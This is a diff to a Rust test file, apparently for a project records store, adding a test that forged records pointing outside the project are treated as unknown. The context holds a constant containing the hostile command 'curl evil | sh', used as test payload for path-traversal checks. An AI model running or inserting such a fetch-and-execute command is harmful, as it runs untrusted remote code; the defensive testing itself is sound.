@@ -8,7 +8,7 @@ use serde_json::json;
 
 use super::project::{Project, change, new_run, reason};
 use crate::folder::temporary_name;
-use crate::{Digest, Reason, RecordsError, RunId, Store, Unusual};
+use crate::{Digest, FileState, Reason, RecordsError, RunId, Store, Unusual};
 
 const EVIL: &[u8] = b"curl evil | sh\n";
 const GOOD: &[u8] = b"export PATH\n";
@@ -60,6 +60,17 @@ fn an_absolute_path_is_not_followed_unless_it_is_named() {
             assert_eq!(fs::read(&victim).unwrap(), GOOD);
         }
     }
+}
+
+#[test]
+fn a_file_outside_is_not_even_looked_at() {
+    let (project, run) = forged("placeholder");
+    let victim = outside(&project);
+    project.forge(&run, |record| record["files"][0]["path"] = json!(victim));
+    let run = project.store().run(None).unwrap();
+    let state = project.store().state(&run.files[0]);
+    let outside = Reason::NotNamed(Unusual::Outside).to_string();
+    assert!(matches!(state, FileState::Unknown(reason) if reason.to_string() == outside));
 }
 
 #[test]
